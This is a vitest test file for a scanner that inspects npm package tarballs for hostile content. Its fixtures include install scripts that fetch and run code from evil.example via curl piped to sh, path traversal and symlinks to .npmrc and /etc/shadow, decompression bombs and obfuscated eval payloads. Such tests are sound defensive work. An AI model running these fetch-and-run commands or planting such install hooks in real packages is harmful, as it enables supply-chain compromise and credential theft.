import { randomBytes } from "node:crypto";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import * as tar from "tar";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { scanTarball, TarballCorruptError, type ScanLimits, type TarballScanResult } from "../src/scan/tarball-scan.ts";
import { buildTar, buildTarball, packageTarball, type TarEntry } from "./support/tar-builder.ts";

const MiB = 1024 * 1024;
const limits: ScanLimits = { maxUnpackedBytes: 50 * MiB, maxCompressionRatio: 100 };
const pkg = { name: "demo", version: "1.2.3" };

let dir: string;
let counter = 0;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "tarball-scan-"));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function writeTgz(bytes: Buffer): Promise<string> {
  const file = join(dir, `t${++counter}.tgz`);
  await writeFile(file, bytes);
  return file;
}

async function scan(bytes: Buffer, scanLimits: ScanLimits = limits, expected = pkg): Promise<TarballScanResult> {
  return scanTarball(await writeTgz(bytes), expected, scanLimits);
}

function rules(result: TarballScanResult): string[] {
  return [...new Set(result.findings.map((f) => f.rule))].sort();
}

function manifest(extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { ...pkg, main: "index.js", ...extra };
}

const cleanIndex = `"use strict";\nconst path = require("node:path");\nmodule.exports = (a) => path.join(a, "x");\n`;

describe("scanTarball: clean packages", () => {
  it("reports nothing for an ordinary package", async () => {
    const result = await scan(packageTarball(manifest(), { "index.js": cleanIndex, "README.md": "# demo\n", "lib/util.js": "exports.x = 1;\n" }));
    expect(rules(result)).toEqual([]);
    expect(result.manifest).toMatchObject(pkg);
    expect(result.files).toBe(4);
    expect(result.entries).toBe(4);
    expect(result.rootFolder).toBe("package");
    expect(result.installScripts).toEqual({});
    expect(result.stoppedEarly).toBe(false);
    expect(result.packedBytes).toBeGreaterThan(0);
    expect(result.unpackedBytes).toBeGreaterThan(result.packedBytes);
  });

  it("reads a tarball made by node-tar (as npm pack does) with long paths", async () => {
    const src = join(dir, "src-pack");
    const deep = join(src, "package", "a".repeat(60), "b".repeat(60));
    await mkdir(deep, { recursive: true });
    await writeFile(join(src, "package", "package.json"), JSON.stringify(manifest()));
    await writeFile(join(src, "package", "index.js"), cleanIndex);
    await writeFile(join(deep, "c".repeat(40) + ".js"), "module.exports = 1;\n");
    const file = join(dir, "packed.tgz");
    await tar.c({ gzip: true, portable: true, cwd: src, file }, ["package"]);
    const result = await scanTarball(file, pkg, limits);
    expect(rules(result)).toEqual([]);
    expect(result.files).toBe(3);
  });

  it("accepts a single top folder other than package/, and reports it as info", async () => {
    const result = await scan(packageTarball(manifest(), { "index.js": cleanIndex }, { root: "node" }));
    expect(rules(result)).toEqual(["nonstandard_root"]);
    expect(result.findings[0]!.severity).toBe("info");
    expect(result.rootFolder).toBe("node");
    expect(result.manifest).toMatchObject(pkg);
  });

  it("treats equal semver spellings as the same version", async () => {
    const result = await scan(packageTarball(manifest({ version: "v1.2.3" })));
    expect(rules(result)).toEqual([]);
  });
});

describe("scanTarball: manifest", () => {
  it("flags a name mismatch", async () => {
    const result = await scan(packageTarball(manifest({ name: "other" })));
    expect(rules(result)).toEqual(["manifest_mismatch"]);
    expect(result.findings[0]!.severity).toBe("critical");
    expect(result.findings[0]!.message).toContain('"other"');
  });

  it("flags a version mismatch", async () => {
    const result = await scan(packageTarball(manifest({ version: "1.2.4" })));
    expect(rules(result)).toEqual(["manifest_mismatch"]);
    expect(result.findings[0]!.message).toContain("1.2.4");
  });

  it("flags a missing package.json", async () => {
    const result = await scan(packageTarball(null, { "index.js": cleanIndex }));
    expect(rules(result)).toEqual(["manifest_missing"]);
    expect(result.manifest).toBeNull();
  });

  it("does not take a package.json outside the package folder as the manifest", async () => {
    const result = await scan(buildTarball([{ path: "package.json", body: JSON.stringify(manifest()) }, { path: "package/index.js", body: cleanIndex }]));
    expect(rules(result)).toEqual(["manifest_missing", "nonstandard_root"]);
  });

  it("flags an unparseable package.json", async () => {
    const result = await scan(buildTarball([{ path: "package/package.json", body: "{ not json" }]));
    expect(rules(result)).toEqual(["manifest_invalid"]);
  });

  it("flags a duplicated package.json (npm keeps the last copy)", async () => {
    const result = await scan(
      buildTarball([
        { path: "package/package.json", body: JSON.stringify(manifest()) },
        { path: "package/package.json", body: JSON.stringify(manifest({ scripts: { postinstall: "node x.js" } })) },
      ]),
    );
    expect(rules(result)).toEqual(["duplicate_entry", "install_script"]);
    expect(result.installScripts).toEqual({ postinstall: "node x.js" });
  });
});

describe("scanTarball: hostile entries", () => {
  const base: TarEntry[] = [{ path: "package/package.json", body: JSON.stringify(manifest()) }];

  it("flags ../ path traversal", async () => {
    const result = await scan(buildTarball([...base, { path: "package/../../.bashrc", body: "evil" }, { path: "../x", body: "y" }]));
    expect(rules(result)).toEqual(["path_traversal"]);
    expect(result.findings.filter((f) => f.rule === "path_traversal")).toHaveLength(2);
    expect(result.findings[0]!.severity).toBe("critical");
  });

  it("flags absolute paths", async () => {
    const result = await scan(buildTarball([...base, { path: "/etc/cron.d/evil", body: "* * * * * root sh" }]));
    expect(rules(result)).toEqual(["path_traversal"]);
    expect(result.findings.find((f) => f.rule === "path_traversal")!.message).toContain("absolute");
  });

  it("flags Windows drive letters and backslashes", async () => {
    const result = await scan(buildTarball([...base, { path: "C:/Windows/evil.dll", body: "x" }, { path: "package\\..\\..\\evil.js", body: "x" }]));
    expect(rules(result)).toEqual(["path_traversal"]);
    expect(result.findings.filter((f) => f.rule === "path_traversal")).toHaveLength(2);
  });

  it("flags symlinks, and symlinks leaving the package as traversal", async () => {
    const inside = await scan(buildTarball([...base, { path: "package/alias.js", type: "symlink", linkpath: "./index.js" }]));
    expect(rules(inside)).toEqual(["link_entry"]);
    expect(inside.findings[0]!.evidence).toBe("package/alias.js -> ./index.js");

    const outside = await scan(buildTarball([...base, { path: "package/creds", type: "symlink", linkpath: "../../../.npmrc" }]));
    expect(rules(outside)).toEqual(["link_entry", "path_traversal"]);
  });

  it("flags hardlinks", async () => {
    const result = await scan(buildTarball([...base, { path: "package/a.js", body: "x" }, { path: "package/b.js", type: "hardlink", linkpath: "package/a.js" }]));
    expect(rules(result)).toEqual(["link_entry"]);
    expect(result.findings[0]!.message).toContain("hardlink");

    const absolute = await scan(buildTarball([...base, { path: "package/shadow", type: "hardlink", linkpath: "/etc/shadow" }]));
    expect(rules(absolute)).toEqual(["link_entry", "path_traversal"]);
  });

  it("flags character devices and FIFOs", async () => {
    const result = await scan(buildTarball([...base, { path: "package/tty", type: "chardev" }, { path: "package/pipe", type: "fifo" }]));
    expect(rules(result)).toEqual(["special_file"]);
    expect(result.findings).toHaveLength(2);
    expect(result.findings[0]!.message).toContain("character device");
  });
});

describe("scanTarball: decompression bombs", () => {
  const zeros = Buffer.alloc(5 * MiB, 0);

  it("stops when unpacked bytes exceed maxUnpackedBytes", async () => {
    const result = await scan(packageTarball(manifest(), { "data.bin": zeros }), { maxUnpackedBytes: 1 * MiB, maxCompressionRatio: 1e9 });
    expect(rules(result)).toEqual(["decompression_bomb"]);
    expect(result.stoppedEarly).toBe(true);
    expect(result.findings[0]!.severity).toBe("critical");
  });

  it("stops when the compression ratio is too high", async () => {
    const result = await scan(packageTarball(manifest(), { "data.bin": zeros }), { maxUnpackedBytes: 100 * MiB, maxCompressionRatio: 50 });
    expect(rules(result)).toEqual(["decompression_bomb"]);
    expect(result.findings[0]!.message).toContain(":1");
    expect(result.stoppedEarly).toBe(true);
  });

  it("does not apply the ratio to small tarballs", async () => {
    const result = await scan(packageTarball(manifest(), { "zeros.txt": Buffer.alloc(512 * 1024, 0x20) }), { maxUnpackedBytes: 100 * MiB, maxCompressionRatio: 5 });
    expect(rules(result)).toEqual([]);
  });

  it("stops past maxEntries", async () => {
    const files = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`f${i}.txt`, "x"]));
    const result = await scan(packageTarball(manifest(), files), { ...limits, maxEntries: 10 });
    expect(rules(result)).toEqual(["decompression_bomb"]);
    expect(result.stoppedEarly).toBe(true);
  });
});

describe("scanTarball: install scripts", () => {
  it("flags install scripts and names curl | sh in the message", async () => {
    const result = await scan(packageTarball(manifest({ scripts: { postinstall: "curl -fsSL https://evil.example/x.sh | sh", test: "vitest" } })));
    expect(rules(result)).toEqual(["install_script"]);
    const f = result.findings[0]!;
    expect(f.severity).toBe("high");
    expect(f.message).toContain("curl");
    expect(f.message).toContain("pipes into a shell");
    expect(f.evidence).toBe("curl -fsSL https://evil.example/x.sh | sh");
    expect(result.installScripts).toEqual({ postinstall: "curl -fsSL https://evil.example/x.sh | sh" });
  });

  it("does not count prepare (not run for registry installs)", async () => {
    const result = await scan(packageTarball(manifest({ scripts: { prepare: "tsc", prepublishOnly: "npm test" } })));
    expect(rules(result)).toEqual([]);
    expect(result.installScripts).toEqual({});
  });

  it("treats a root binding.gyp as an implicit node-gyp rebuild", async () => {
    const gyp = JSON.stringify({ targets: [{ target_name: "addon", sources: ["addon.cc"] }] });
    const result = await scan(packageTarball(manifest(), { "binding.gyp": gyp, "addon.cc": "int x;\n" }));
    expect(rules(result)).toEqual(["install_script"]);
    expect(result.installScripts).toEqual({ install: "node-gyp rebuild" });
    expect(result.findings[0]!.message).toContain("binding.gyp");

    const optOut = await scan(packageTarball(manifest({ gypfile: false }), { "binding.gyp": gyp }));
    expect(optOut.installScripts).toEqual({});
    const nested = await scan(packageTarball(manifest(), { "src/binding.gyp": gyp }));
    expect(nested.installScripts).toEqual({});
  });

  it("names red flags in binding.gyp command expansions", async () => {
    const gyp = `{ "targets": [{ "target_name": "a", "sources": ["<!(curl -s https://evil.example/a | sh)"] }] }`;
    const result = await scan(packageTarball(manifest(), { "binding.gyp": gyp }));
    expect(rules(result)).toEqual(["install_script"]);
    expect(result.findings[0]!.message).toContain("curl");
  });

  it("flags child_process, network and process.env in files run at install time", async () => {
    const postinstall = `const { execSync } = require("child_process");\nconst dl = require("../lib/download");\nif (process.env.CI) process.exit(0);\nexecSync("echo hi");\n`;
    const download = `import https from "node:https";\nexport default (u) => https.get(u);\n`;
    const result = await scan(
      packageTarball(manifest({ scripts: { postinstall: "node scripts/postinstall.js" } }), {
        "scripts/postinstall.js": postinstall,
        "lib/download.js": download,
        "index.js": cleanIndex,
      }),
    );
    expect(rules(result)).toEqual(["install_script", "install_time_capability"]);
    const f = result.findings.find((x) => x.rule === "install_time_capability")!;
    expect(f.severity).toBe("high");
    expect(f.file).toBe("scripts/postinstall.js");
    expect(f.message).toContain('postinstall runs "node scripts/postinstall.js", which uses child_process');
    expect(f.message).toContain("https");
    expect(f.message).toContain("reads process.env");
    expect(f.message).toContain("lib/download.js");
    expect(f.evidence).toContain('require("child_process")');
  });

  it("follows npm run and node -e inline code", async () => {
    const result = await scan(
      packageTarball(manifest({ scripts: { install: "npm run setup", setup: "node -e \"require('https').get(process.env.URL)\"" } })),
    );
    expect(rules(result)).toEqual(["install_script", "install_time_capability"]);
    const f = result.findings.find((x) => x.rule === "install_time_capability")!;
    expect(f.message).toContain("inline code");
    expect(f.message).toContain("reads process.env");
  });

  it("flags an install script that executes a shipped native binary", async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(64)]);
    const result = await scan(packageTarball(manifest({ scripts: { postinstall: "./bin/setup --quiet" } }), { "bin/setup": elf }));
    expect(rules(result)).toEqual(["install_script", "install_time_capability", "native_binary"]);
    expect(result.findings.find((x) => x.rule === "install_time_capability")!.message).toContain("native binary bin/setup");
  });

  // A catastrophic-backtracking regression would blow through the test timeout; no wall-clock assertion here.
  it("finishes on pathological script text and code", async () => {
    const hostileScript = "|".repeat(200_000) + "x".repeat(200_000);
    const hostileCode = `${"A".repeat(1999)}!`.repeat(1000) + "\\x4".repeat(100_000) + "require('".repeat(50_000);
    const result = await scan(
      packageTarball(manifest({ scripts: { postinstall: hostileScript, preinstall: `sh -c "${"sh -c ".repeat(5000)}"` } }), { "a.js": hostileCode }),
      { maxUnpackedBytes: 50 * MiB, maxCompressionRatio: 1e9 },
    );
    expect(rules(result)).toEqual(["install_script"]);
  });

  it("does not flag capabilities of files that do not run at install time", async () => {
    const result = await scan(
      packageTarball(manifest({ scripts: { postinstall: "node hello.js" } }), {
        "hello.js": "console.log('thanks for installing');\n",
        "index.js": `const cp = require("child_process");\nmodule.exports = () => cp.execSync(process.env.CMD);\n`,
      }),
    );
    expect(rules(result)).toEqual(["install_script"]);
  });
});

describe("scanTarball: code", () => {
  it("flags ELF binaries and .node addons", async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(256)]);
    const result = await scan(packageTarball(manifest(), { "bin/tool": elf, "build/Release/addon.node": Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]) }));
    expect(rules(result)).toEqual(["native_binary"]);
    expect(result.findings).toHaveLength(2);
    expect(result.findings[0]!.severity).toBe("moderate");
    expect(result.findings.map((f) => f.file).sort()).toEqual(["bin/tool", "build/Release/addon.node"]);
  });

  it("flags a PE executable but not a text file starting with MZ", async () => {
    const pe = Buffer.alloc(256, 0);
    pe.write("MZ", 0);
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write("PE\0\0", 0x80, "latin1");
    const result = await scan(packageTarball(manifest(), { "tool.bin": pe, "notes.txt": "MZ is a postcode prefix\n".repeat(10) }));
    expect(rules(result)).toEqual(["native_binary"]);
    expect(result.findings).toHaveLength(1);
  });

  it("flags an eval-ed base64 blob", async () => {
    const blob = randomBytes(3000).toString("base64");
    const code = `var p="${blob}";eval(Buffer.from(p,"base64").toString());\n`;
    const result = await scan(packageTarball(manifest(), { "index.js": code }));
    expect(rules(result)).toEqual(["obfuscated_code"]);
    expect(result.findings[0]!.file).toBe("index.js");
    expect(result.findings[0]!.message).toContain("eval");
  });

  it("flags hex-escaped payloads run through new Function", async () => {
    const escaped = [...randomBytes(400)].map((b) => `\\x${b.toString(16).padStart(2, "0")}`).join("");
    const code = `module.exports=new Function("${escaped}");`;
    const result = await scan(packageTarball(manifest(), { "lib/x.mjs": code }));
    expect(rules(result)).toEqual(["obfuscated_code"]);
  });

  it("flags javascript-obfuscator output (_0x identifiers)", async () => {
    const body = Array.from({ length: 80 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=_0x4f2c[${i}];`).join("");
    const result = await scan(packageTarball(manifest(), { "index.js": `var _0x4f2c=['a','b'];${body}` }));
    expect(rules(result)).toEqual(["obfuscated_code"]);
    expect(result.findings[0]!.message).toContain("_0x");
  });

  it("does not flag an ordinary minified bundle", async () => {
    const woff2 = Buffer.concat([Buffer.from("wOF2"), randomBytes(3000)]).toString("base64");
    const sourceMap = Buffer.from(JSON.stringify({ version: 3, sources: ["a.ts"], mappings: "A".repeat(4000) })).toString("base64");
    const parts: string[] = ['!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){"use strict";var g=Function("return this")();'];
    for (let i = 0; i < 600; i++) parts.push(`function f${i}(a,b){return a+b*${i}}var v${i}=f${i}(1,2);`);
    parts.push(`var font="data:font/woff2;base64,${woff2}";return{g:g,font:font}});`);
    const bundle = `${parts.join("")}\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,${sourceMap}\n`;
    expect(bundle.split("\n")[0]!.length).toBeGreaterThan(20_000);
    const result = await scan(packageTarball(manifest(), { "dist/bundle.min.js": bundle }));
    expect(rules(result)).toEqual([]);
  });

  it("does not flag a long base64 string without eval", async () => {
    const result = await scan(packageTarball(manifest(), { "data.js": `module.exports="${randomBytes(6000).toString("base64")}";` }));
    expect(rules(result)).toEqual([]);
  });
});

describe("scanTarball: fails closed on broken input", () => {
  it("throws on a truncated tarball", async () => {
    const good = packageTarball(manifest(), { "index.js": cleanIndex, "big.txt": randomBytes(64 * 1024).toString("hex") });
    await expect(scan(good.subarray(0, Math.floor(good.length / 2)))).rejects.toBeInstanceOf(TarballCorruptError);
  });

  it("throws when the tar inside a complete gzip stream is truncated", async () => {
    const raw = buildTar([{ path: "package/package.json", body: JSON.stringify(manifest()) }, { path: "package/big.txt", body: "x".repeat(10_000) }]);
    const cut = gzipSync(raw.subarray(0, 2048));
    const error = await scan(cut).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TarballCorruptError);
    expect((error as TarballCorruptError).code).toBe("tarball_corrupt");
  });

  it("throws on non-gzip garbage", async () => {
    await expect(scan(randomBytes(4096))).rejects.toBeInstanceOf(TarballCorruptError);
  });

  it("throws on an uncompressed tar", async () => {
    await expect(scan(buildTarball([{ path: "package/package.json", body: "{}" }], { gzip: false }))).rejects.toBeInstanceOf(TarballCorruptError);
  });

  it("throws on gzip data that is not a tar archive", async () => {
    await expect(scan(gzipSync(Buffer.from("hello world, not a tarball\n".repeat(100))))).rejects.toBeInstanceOf(TarballCorruptError);
  });

  it("throws on an empty file", async () => {
    await expect(scan(Buffer.alloc(0))).rejects.toBeInstanceOf(TarballCorruptError);
  });

  it("throws on a damaged gzip body", async () => {
    const good = packageTarball(manifest(), { "index.js": cleanIndex });
    const bad = Buffer.from(good);
    for (let i = 20; i < bad.length - 8; i += 7) bad[i] = bad[i]! ^ 0xff;
    await expect(scan(bad)).rejects.toBeInstanceOf(TarballCorruptError);
  });

  it("propagates a missing file as a plain fs error", async () => {
    const error = await scanTarball(join(dir, "nope.tgz"), pkg, limits).catch((e: unknown) => e);
    expect(error).not.toBeInstanceOf(TarballCorruptError);
    expect((error as NodeJS.ErrnoException).code).toBe("ENOENT");
  });
});
